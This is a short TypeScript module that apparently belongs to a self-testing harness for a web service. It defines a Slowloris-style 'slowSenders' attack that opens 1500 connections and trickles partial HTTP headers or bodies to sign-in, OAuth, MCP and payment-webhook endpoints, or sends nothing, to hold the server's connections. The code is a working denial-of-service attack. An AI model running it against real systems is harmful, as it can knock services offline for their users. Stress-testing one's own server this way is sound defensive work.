import { setTimeout as delay } from "node:timers/promises";
import type { Attack } from "../stranger.ts";

const CONNECTIONS = 1500;
const DRIP_MS = 1000;
/** Beginnings of requests whose rest comes a byte at a time, or never. */
const BEGINNINGS = [
  "GET / HTTP/1.1\r\nHost: a\r\nX-A: ",
  "POST /mcp HTTP/1.1\r\nHost: HOST\r\nContent-Type: application/json\r\nAccept: application/json, text/event-stream\r\nContent-Length: 1000000\r\n\r\n{",
  "POST /sign-in HTTP/1.1\r\nHost: HOST\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 60000\r\n\r\na=",
  "POST /oauth/token HTTP/1.1\r\nHost: HOST\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 60000\r\n\r\n",
  "POST /webhooks/paypal HTTP/1.1\r\nHost: HOST\r\nContent-Length: 1000000\r\n\r\n",
  "",
];

export const slowSenders: Attack = {
  title: `${CONNECTIONS} connections that trickle headers or bodies, or say nothing`,
  async run({ stage: { base }, socket, isOver }) {
    const { host } = new URL(base);
    const open = Array.from({ length: CONNECTIONS }, (_, nth) => {
      const one = socket(nth % 60);
      one.once("connect", () => one.write(BEGINNINGS[nth % BEGINNINGS.length]!.replace("HOST", host)));
      return one;
    });
    while (!isOver()) {
      await delay(DRIP_MS);
      for (const [nth, one] of open.entries()) if (nth % BEGINNINGS.length !== 5 && one.writable) one.write("x");
    }
  },
};
